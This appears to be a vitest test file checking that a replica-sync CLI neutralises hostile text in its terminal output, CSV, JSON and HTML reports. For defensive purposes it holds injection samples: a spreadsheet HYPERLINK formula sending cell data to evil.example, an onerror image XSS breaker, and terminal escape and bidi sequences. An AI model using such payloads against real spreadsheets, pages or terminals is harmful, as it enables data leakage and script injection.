/**
 * Hostile text, every class at once, through real syncs (the CLI as a child process, the simulator
 * over HTTP, DynamoDB Local) and everything printed for people afterwards: the sync's summary,
 * "Needs attention" and log lines, query tables, history, the text report and the HTML page. None
 * of it may carry a control, escape or bidi character raw; JSON stays exact; CSV is RFC 4180 with
 * formula leads defused; the commands printed for pasting name the real id.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { TavusSimulator, type SimReplica } from '../local/tavus-simulator.js';
import { cli } from './support/cli-process.js';
import { FORMULA_LEADS, hostileTexts, rawControlsIn } from './support/hostile-text.js';
import { parseCsv } from './support/parse-csv.js';
import { startSyncHarness, type SyncHarness } from './support/sync-harness.js';
import { scanAll } from './support/tables.js';

const KEY = 'hostile-output-key-5e1f0a7c';
const T0 = new Date('2026-11-29T10:00:00.000Z');
const texts = hostileTexts();

/** One replica per hostile text: in its name always, in its id, error message or fine-tune status by turns. */
function hostileReplica(text: string, i: number): SimReplica {
  const failed = i % 3 === 0;
  return {
    // Unique whatever a store might normalise; the text leads every other id.
    replica_id: i % 2 === 0 ? `r${i}:${text}` : `${text}:r${i}`,
    replica_name: text,
    status: failed ? 'error' : 'completed',
    training_progress: i % 3 === 1 ? text : '100/100',
    created_at: new Date(T0.getTime() - (i + 1) * 60_000).toISOString(),
    updated_at: T0.toISOString(),
    replica_type: 'user',
    model_name: 'phoenix-4.5',
    error_message: failed ? text : null,
    thumbnail_video_url: null,
    finetune_status: i % 3 === 2 ? text : null,
  };
}

describe('hostile text in everything printed for people', () => {
  const sim = new TavusSimulator({ apiKey: KEY, replicas: texts.map(hostileReplica), pageSizeCap: 100 });
  let harness: SyncHarness;
  let sync = { code: null as number | null, stdout: '', stderr: '' };
  const dir = mkdtempSync(path.join(tmpdir(), 'hostile-output-'));
  const where = () => ['--endpoint', inject('dynamodbEndpoint'), '--table', harness.tables.replicas, '--runs-table', harness.tables.runs, '--events-table', harness.tables.events];

  beforeAll(async () => {
    harness = await startSyncHarness('hostile', sim, KEY);
    sync = await cli(['sync', '--api-url', sim.url, ...where()], { TAVUS_API_KEY: KEY });
  }, 120_000);
  afterAll(async () => {
    await harness.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('syncs, and the summary, "Needs attention" and the log lines show no hidden character raw', () => {
    expect(sync.code, sync.stderr).toBe(0);
    expect(sync.stdout).toMatch(/Needs attention \(\d+\): \d+ error/);
    expect(sync.stdout).toMatch(/^ {2}finetune_failed +\d+$/m);
    expect(rawControlsIn(sync.stdout)).toEqual([]);
    expect(rawControlsIn(sync.stderr)).toEqual([]);
    // No forged line: every line of the attention block is the template's.
    const block = sync.stdout.slice(sync.stdout.indexOf('Needs attention'));
    for (const line of block.trimEnd().split('\n').slice(1)) expect(line).toMatch(/^ {2}(error|stuck|finetune_failed) |^ {2}and \d+ more$|^ {2}Show more:$|^ {4}(arg\d+="\$\(printf '[^']*_'\)"; )*npm run query -- /);
  });

  it('prints the history command with the run flags, for the real id of the first replica listed', async () => {
    const items = await scanAll(harness.documents, harness.tables.replicas);
    const firstError = items.filter((item) => item.status === 'error').map((item) => String(item.replica_id)).sort()[0]!;
    const line = sync.stdout.split('\n').find((l) => l.includes('npm run query -- history'))!;
    expect(line).toContain(`--table ${harness.tables.replicas}`);
    expect(line).toContain(`--endpoint ${inject('dynamodbEndpoint')}`);
    const { execFileSync } = await import('node:child_process');
    const stub = path.join(dir, 'npm');
    const { writeFileSync, chmodSync } = await import('node:fs');
    writeFileSync(stub, `#!/bin/sh\nprintf '%s\\0' "$@"\n`);
    chmodSync(stub, 0o755);
    const args = execFileSync('sh', ['-c', line.trim()], { cwd: dir, env: { PATH: `${dir}:/usr/bin:/bin` }, encoding: 'utf8' }).split('\0');
    expect(args).toContain(firstError);
  });

  it('lists replicas as a table with one line per replica and nothing raw', async () => {
    const { out, err } = await harness.query(['--all', '--format', 'table']);
    expect(rawControlsIn(out + err)).toEqual([]);
    expect(out.trimEnd().split('\n')).toHaveLength(texts.length + 2);
  });

  it('keeps JSON exact: every stored string, byte for byte', async () => {
    const { out } = await harness.query(['--all', '--format', 'json']);
    const printed = out.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    const stored = await scanAll(harness.documents, harness.tables.replicas);
    const byId = (list: Array<Record<string, unknown>>) => new Map(list.map((item) => [String(item.replica_id), item]));
    expect(byId(printed)).toEqual(byId(stored));
  });

  it('writes CSV a spreadsheet reads back exactly, with every formula lead defused', async () => {
    const [{ out: csv }, { out: json }] = await Promise.all([harness.query(['--all', '--format', 'csv']), harness.query(['--all', '--format', 'json'])]);
    const [header, ...rows] = parseCsv(csv);
    const items = json.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows).toHaveLength(items.length);
    rows.forEach((row, r) => {
      header!.forEach((column, c) => {
        const value = items[r]![column];
        const text = value === undefined || value === null ? '' : typeof value === 'string' ? value : JSON.stringify(value);
        expect(row[c], `${column} of ${JSON.stringify(items[r]!.replica_id)}`).toBe(FORMULA_LEADS.includes(text.charAt(0)) ? `'${text}` : text);
      });
    });
    expect(rows.some((row) => FORMULA_LEADS.some((lead) => row[1] === `'${lead}HYPERLINK("http://evil.example/?x="&A1,"Click")`))).toBe(true);
  });

  it('shows histories with nothing raw, whatever the id', async () => {
    const ids = (await scanAll(harness.documents, harness.tables.replicas)).map((item) => String(item.replica_id));
    for (const id of ids.filter((_, i) => i % 7 === 0)) {
      const { out, err } = await harness.query(['history', id, '--format', 'table']);
      expect(rawControlsIn(out + err), JSON.stringify(id)).toEqual([]);
    }
    const missing = await harness.query(['history', 'nobody\x1b]0;title\x07\u202e']);
    expect(rawControlsIn(missing.err)).toEqual([]);
  });

  it('prints the text report with nothing raw and its long sections cut, and the HTML page escaped', async () => {
    const { out, err } = await harness.query(['report', '--format', 'table']);
    expect(rawControlsIn(out + err)).toEqual([]);
    expect(out).toMatch(/^ {2}and \d+ more: npm run query -- --status error --endpoint /m);
    expect(out).toMatch(/^ {2}and \d+ more running: npm run query -- --finetune in-progress --endpoint /m);
    expect(out.split('\n').length).toBeLessThan(140);

    const file = path.join(dir, 'report.html');
    const page = await harness.query(['report', '--html', file]);
    expect(page.out).toBe('');
    expect(page.err.trimEnd().split('\n')).toHaveLength(1);
    const html = readFileSync(file, 'utf8');
    expect(rawControlsIn(html.replace(/\n/g, ''))).toEqual([]);
    expect(html).not.toMatch(/<script|<img|' onmouseover='/i);
    // The attribute breakers appear only as escaped text.
    expect(html.match(/onerror=/g)?.length).toBe(html.match(/&quot;&gt;&lt;img src=x onerror=/g)?.length);
    expect(html).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('&lt;!channel&gt;'); // hostile markup is on the page, as text
  });
});
